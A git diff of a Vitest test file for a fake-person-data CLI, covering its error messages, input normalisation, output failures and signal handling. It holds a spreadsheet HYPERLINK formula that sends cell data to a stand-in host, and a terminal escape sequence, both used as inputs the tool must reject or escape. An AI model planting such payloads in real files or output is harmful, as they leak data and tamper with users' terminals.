@@ -1,39 +1,47 @@
-import { spawnSync } from 'node:child_process';
+import { spawn, spawnSync } from 'node:child_process';
+import { setTimeout as delay } from 'node:timers/promises';
 import { describe, expect, test } from 'vitest';
-import { FIXED, MANIFEST, bash, cli, run } from './support.ts';
+import { CLI, FIXED, MANIFEST, bash, cli, run } from './support.ts';
 
 /** Each wrong flag and the words its message must hold. */
 const WRONG: [string[], RegExp][] = [
-  [['--count', '0'], /--count 0 is out of range: from 1 to/],
-  [['--count', '-1'], /--count -1 is out of range: from 1 to/],
-  [['--count=-1'], /--count -1 is out of range: from 1 to/],
+  [['--count', '-1'], /--count is a whole number from 0 to 100,000,000,000,000, not “-1”\./],
+  [['--count=-1'], /--count is a whole number from 0 to 100,000,000,000,000, not “-1”\./],
   [['--count', '1.5'], /--count “1\.5” is not a whole number written in digits/],
   [['--count', '1e12'], /--count “1e12” is not a whole number written in digits/],
   [['--count', 'ten'], /--count “ten” is not a whole number written in digits/],
   [['--count', '1,000'], /--count “1,000” is not a whole number written in digits/],
-  [['--count', '100000000000001'], /--count 100000000000001 is out of range/],
+  [['--count', '100000000000001'], /--count is a whole number .*, not “100000000000001”\./],
   [['--count'], /--count needs a value\./],
-  [['--start', '-5'], /--start -5 is out of range: from 0 to/],
+  [['--start', '-5'], /--start is a whole number from 0 to 99,999,999,999,999, not “-5”\./],
   [['--start', 'x'], /--start “x” is not a whole number/],
-  [['--start', '99999999999995', '--count', '10'], /goes past the last index, 99999999999999/],
-  [['--seed', '4294967296'], /--seed 4294967296 is out of range: from 0 to 4294967295/],
-  [['--seed', '-1'], /--seed -1 is out of range: from 0 to 4294967295/],
+  [
+    ['--start', '99999999999995', '--count', '10'],
+    /--start 99999999999995 with --count 10 goes past the last index, 99999999999999\./,
+  ],
+  [['--seed', '4294967296'], /--seed is a whole number from 0 to 4,294,967,295, not “4294967296”/],
+  [['--seed', '-1'], /--seed is a whole number from 0 to 4,294,967,295, not “-1”/],
   [['--seed', '1.5'], /--seed “1\.5” is not a whole number/],
   [['--seed', 'forty-two'], /--seed “forty-two” is not a whole number/],
-  [['--format', 'xml'], /--format “xml” is not one of csv, json, ndjson, sql/],
+  [['--format', 'xml'], /--format is one of csv, json, ndjson, sql, not “xml”\./],
   [
     ['--as-of', '2026-02-30'],
-    /--as-of “2026-02-30” is not a real day from 1081-01-01 to 9999-12-31 written YYYY-MM-DD/,
+    /--as-of is a real day from 1081-01-01 to 9999-12-31, written YYYY-MM-DD, not “2026-02-30”\./,
   ],
   // Whole years from 1081, the first whose every day gives four-digit birth years (and before
   // year 100, Date.UTC reads years as 19xx).
-  [['--as-of', '0100-03-01'], /--as-of “0100-03-01” is not a real day from 1081-01-01/],
-  [['--as-of', '1080-12-31'], /--as-of “1080-12-31” is not a real day from 1081-01-01/],
-  [['--as-of', '11/22/2026'], /--as-of “11\/22\/2026” is not a real day/],
-  [['--shard', '0/4'], /--shard “0\/4” is not K\/N/],
-  [['--shard', '5/4'], /--shard “5\/4” is not K\/N/],
-  [['--shard', '1/0'], /--shard “1\/0” is not K\/N/],
-  [['--shard', 'half'], /--shard “half” is not K\/N/],
+  [['--as-of', '0100-03-01'], /--as-of is a real day from 1081-01-01 .*, not “0100-03-01”/],
+  [['--as-of', '1080-12-31'], /--as-of is a real day from 1081-01-01 .*, not “1080-12-31”/],
+  [['--as-of', '11/22/2026'], /--as-of is a real day .*, not “11\/22\/2026”/],
+  [[...FIXED, '--shard', '0/4'], /--shard is K\/N, such as 3\/8: K from 1 to N .*, not “0\/4”\./],
+  [[...FIXED, '--shard', '5/4'], /--shard is K\/N, .*, not “5\/4”/],
+  [[...FIXED, '--shard', '1/0'], /--shard is K\/N, .*, not “1\/0”/],
+  [[...FIXED, '--shard', 'half'], /--shard is K\/N, .*, not “half”/],
+  // Past 2^53 a number is not the one written: 2^53 + 1 read as 2^53 passed for the last part.
+  [
+    [...FIXED, '--shard', '9007199254740993/9007199254740992'],
+    /--shard is K\/N, such as 3\/8: K from 1 to N \(whole numbers up to 9,007,199,254,740,991\), not “9007199254740993\/9007199254740992”\./,
+  ],
   [['--shard', '1/2', '--as-of', '2026-11-22'], /--shard needs --seed and --as-of/],
   [['--shard', '1/2', '--seed', '1'], /--shard needs --seed and --as-of/],
   [['--format', 'sql', '--table', '1people'], /--table “1people” is not a plain SQL name/],
@@ -47,8 +55,8 @@ const WRONG: [string[], RegExp][] = [
     ['--format', 'sql', '--table', 'sqlite_people'],
     /--table “sqlite_people” starts with sqlite_, which SQLite keeps/,
   ],
-  [['--format', 'toString'], /--format “toString” is not one of csv, json, ndjson, sql/],
-  [['--format', '__proto__'], /--format “__proto__” is not one of/],
+  [['--format', 'toString'], /--format is one of csv, json, ndjson, sql, not “toString”/],
+  [['--format', '__proto__'], /--format is one of csv, json, ndjson, sql, not “__proto__”/],
   [['--table', 'staff'], /--table names the table of --format sql; csv has none/],
   [['--table', 'staff', '--format', 'json'], /--table names the table .*; json has none/],
   [['--bogus'], /--bogus is not an option of random-american-generator\./],
@@ -60,9 +68,12 @@ const WRONG: [string[], RegExp][] = [
   [['--seed', '5', '--seed', '6'], /--seed is given twice/],
   [['--city', 'Chicago', '--state', 'Texas'], /--city: City “Chicago” is not in Texas/],
   [['--state', 'Narnia'], /--state: State “Narnia” is not one of the 50 states/],
-  [['--state', 'TX'], /--state: State “TX” is not .* \(TX is Texas’s postal code: write the name/],
-  [['--city', 'hauula'], /--city: City “hauula” is not .* \(did you mean Hau‘ula\?\)/],
-  [['--city', 'hauula', '--state', 'Texas'], /\(did you mean Hau‘ula, in Hawaii\?\)/],
+  [['--city', 'Atlantis'], /--city: City “Atlantis” is not a city we know in the 50 states\./],
+  // Read as typed (Hau‘ula), and then not in Texas.
+  [
+    ['--city', 'hauula', '--state', 'Texas'],
+    /--city: City “Hau‘ula” is not in Texas \(we know it in Hawaii\)/,
+  ],
   [['--zip-code', '1234'], /--zip-code: Zip Code “1234” is not five digits/],
   [['--zip-code', '60601', '--state', 'Texas'], /--zip-code: Zip Code 60601 is in Illinois/],
   [['--gender', 'other'], /--gender: Gender “other” is neither female nor male/],
@@ -71,14 +82,13 @@ const WRONG: [string[], RegExp][] = [
     ['--birthdate', '2/30/1990'],
     /--birthdate: Birthdate “2\/30\/1990” is not a day of the calendar\./,
   ],
-  [['--birthdate', '1990-01-02'], /--birthdate: .* is not written M\/D\/YYYY \(write 1\/2\/1990\)/],
   [
     ['--first-name', 'Mary', '--gender', 'male'],
     /--gender: Gender male does not go with First Name “Mary”: .* give it to girls only/,
   ],
   [
-    ['--city', 'Saint Louis', '--state', 'Missouri'],
-    /--city: City “Saint Louis” is not in Missouri \(we know it in Michigan; did you mean St\. Louis\?\)/,
+    ['--first-name', 'mary', '--gender', 'male'],
+    /--gender: Gender male does not go with First Name “Mary”: .* give it to girls only/,
   ],
   // 17 and 81 on the as-of date: one day either side of what is allowed.
   [
@@ -89,6 +99,11 @@ const WRONG: [string[], RegExp][] = [
     ['--birthdate', '11/22/1945', '--as-of', '2026-11-22'],
     /--birthdate: Birthdate 11\/22\/1945 makes an age of 81 on 11\/22\/2026/,
   ],
+  [
+    ['--last-name', '=HYPERLINK("http://x.example/?d="&A1,"Click")'],
+    /--last-name: Last Name starts with “=”, which a spreadsheet reads as the start of a formula\./,
+  ],
+  [['--street-address', '1 Main St\\'], /--street-address: Street Address holds a backslash/],
 ];
 
 describe('a wrong flag exits 2, says what is wrong on stderr, writes nothing on stdout', () => {
@@ -218,5 +233,179 @@ describe('--help and --version', () => {
 
   test('--version prints the package’s version', () => {
     expect(String(run(['--version']))).toBe(`${MANIFEST.version}\n`);
+  });
+});
+
+describe('field flags are read as the page’s editors read typing', () => {
+  /** The rows' values of one column, as a set. */
+  const column = (args: string[], name: string) => {
+    const [header = '', ...rows] = String(run(['--count', '20', ...FIXED, ...args]))
+      .trimEnd()
+      .split('\r\n');
+    const at = header.split(',').indexOf(name);
+    return new Set(rows.map((row) => row.split(',')[at]));
+  };
+
+  test.each([
+    [['--first-name', 'mary'], 'firstName', 'Mary'],
+    [['--state', 'tx'], 'state', 'Texas'],
+    [['--city', 'chicago'], 'city', 'Chicago'],
+    [['--city', 'chicago'], 'state', 'Illinois'],
+    [['--city', 'saint louis', '--state', 'mo'], 'city', 'St. Louis'],
+    [['--birthdate', '1990-01-02'], 'birthdate', '1/2/1990'],
+    [['--gender', 'Female'], 'gender', 'female'],
+    [['--zip-code', '78701-1234'], 'zipCode', '78701'],
+  ])('%j: every %s is %s', (args, name, value) => {
+    expect(column(args, name)).toEqual(new Set([value]));
+  });
+
+  test('--help says so', () => {
+    expect(String(run(['--help']))).toMatch(/Field\nflags are read as typed: --state tx is Texas/);
+  });
+});
+
+test('--count 0 writes the file’s head alone, as the library’s count: 0 does', () => {
+  expect(String(run(['--count', '0', ...FIXED]))).toBe(
+    'firstName,lastName,gender,streetAddress,city,state,zipCode,birthdate,stateCode,age,phone,email\r\n',
+  );
+});
+
+describe('a value a message echoes is escaped and cut short, for every flag', () => {
+  // ESC ] 0 ; ... BEL sets a terminal's title; ESC [ 2 J clears the screen; then 10,000 more.
+  const hostile = `\u001b]0;owned\u0007\u001b[2J\n${'x'.repeat(10_000)}`;
+  test.each([
+    [['--format', hostile]],
+    [['--count', hostile]],
+    [['--seed', hostile]],
+    [['--start', hostile]],
+    [['--as-of', hostile]],
+    [[...FIXED, '--shard', hostile]],
+    [['--format', 'sql', '--table', hostile]],
+    [[`--${hostile}`]],
+    [[hostile]],
+  ])('%#', (args) => {
+    const result = cli(args);
+    const stderr = String(result.stderr);
+    expect(result.status).toBe(2);
+    // Nothing but printable text and the line breaks between messages.
+    expect(stderr.replaceAll('\n', '')).not.toMatch(/\p{Cc}/u);
+    // Escaped, so a reader sees what was typed.
+    expect(stderr).toMatch(/\\x1B\]0;owned\\x07\\x1B\[2J/);
+    for (const line of stderr.split('\n')) expect(line.length).toBeLessThan(300);
+  });
+});
+
+describe('where stdout and stderr cannot be written', () => {
+  // The pipe's reader has ended before the command line starts: its first write fails.
+  const intoClosedPipe = (args: string) =>
+    bash(`exec 3> >(true); wait $!; "$NODE" "$CLI" ${args} >&3`);
+
+  test.each(['--help', '--version', '--count 5 --seed 1 --as-of 2026-11-22'])(
+    '%s into a closed pipe ends quietly: exit 0, nothing on stderr',
+    (args) => {
+      const result = intoClosedPipe(args);
+      expect(result.stderr).toBe('');
+      expect(result.status).toBe(0);
+    },
+  );
+
+  test.each(['--help', '--version'])('%s onto a full disk says so in one line: exit 1', (args) => {
+    const result = bash(`"$NODE" "$CLI" ${args} > /dev/full`);
+    expect(result.stderr).toMatch(
+      /^random-american-generator: cannot write the output: ENOSPC[^\n]*\n$/,
+    );
+    expect(result.status).toBe(1);
+  });
+
+  test('a full stderr does not fail a run: the seed notice is let be', () => {
+    const result = bash('"$NODE" "$CLI" --count 5 --as-of 2026-11-22 2>/dev/full');
+    expect(result.status).toBe(0);
+    expect(String(result.stdout).split('\r\n')).toHaveLength(7);
+  });
+});
+
+describe('the progress line', () => {
+  const cwd = new URL('..', import.meta.url);
+
+  test('is not shown when stdout is the same terminal: the rows are the progress', () => {
+    const result = spawnSync(
+      'script',
+      [
+        '-qec',
+        `"${process.execPath}" dist/cli.js --count 12000 --seed 1 --as-of 2026-11-22`,
+        '/dev/null',
+      ],
+      { cwd, encoding: 'utf8', maxBuffer: 1 << 26 },
+    );
+    expect(result.status).toBe(0);
+    expect(result.stdout).toContain('firstName,lastName');
+    expect(result.stdout).not.toMatch(/of 12,000 people/);
+  });
+
+  test('Ctrl-C ends the progress line, so the prompt starts a line of its own: exit 130', async () => {
+    // A terminal (script, util-linux) whose input is this test: Ctrl-C is sent as a user types it.
+    const child = spawn(
+      'script',
+      [
+        '-qfec',
+        `"${process.execPath}" dist/cli.js --count 99999999999999 --seed 1 --as-of 2026-11-22 >/dev/null`,
+        '/dev/null',
+      ],
+      { cwd, stdio: ['pipe', 'pipe', 'inherit'] },
+    );
+    let shown = '';
+    const exited = new Promise<number | null>((resolve) => child.on('exit', resolve));
+    child.stdout.on('data', (data: Buffer) => {
+      const first = !/ people/.test(shown);
+      shown += String(data);
+      if (first && / people/.test(shown)) child.stdin.write('\u0003');
+    });
+    expect(await exited).toBe(130);
+    // The terminal echoes ^C; the line then ends, where before the prompt ran on after it.
+    expect(shown).toMatch(/ of 99,999,999,999,999 people(\^C)?\r\n$/);
+  });
+});
+
+describe('when the process that started it is gone', () => {
+  // A supervisor signals the process it started (here sh, as npx's shell or a container's), and
+  // that one ends without passing the signal on.
+  test.each([
+    ['writing to a file', '>/dev/null'],
+    ['writing to a pipe no one reads', '| sleep 600 2>/dev/null'],
+  ])('%s, it ends too', async (_, output) => {
+    // No --seed: its notice on stderr says it has started. `; true`: sh waits, not execs.
+    const parent = spawn(
+      'sh',
+      ['-c', `"$NODE" "$CLI" --count 99999999999999 --as-of 2026-11-22 ${output}; true`],
+      {
+        env: { ...process.env, NODE: process.execPath, CLI },
+        stdio: ['ignore', 'ignore', 'pipe'],
+        detached: true,
+      },
+    );
+    const group = parent.pid ?? 0;
+    try {
+      let said = '';
+      // stderr ends when every process holding it has: sh and the command line.
+      const ended = new Promise<void>((resolve) => parent.stderr.on('end', resolve));
+      await new Promise<void>((resolve) =>
+        parent.stderr.on('data', (data: Buffer) => {
+          said += String(data);
+          if (/seed \d+/.test(said)) resolve();
+        }),
+      );
+      process.kill(group, 'SIGTERM');
+      // It looks for its parent every second; a minute is for a machine busy with other work.
+      const gone = await Promise.race([ended.then(() => true), delay(60_000, false)]);
+      expect(gone, 'the command line still runs a minute after its parent ended').toBe(true);
+      expect(said).toMatch(/^random-american-generator: seed \d+ /);
+    } finally {
+      // What is left of its process group (the sleep; the command line, if the test failed).
+      try {
+        process.kill(-group, 'SIGKILL');
+      } catch {
+        // Nothing left.
+      }
+    }
   });
 });
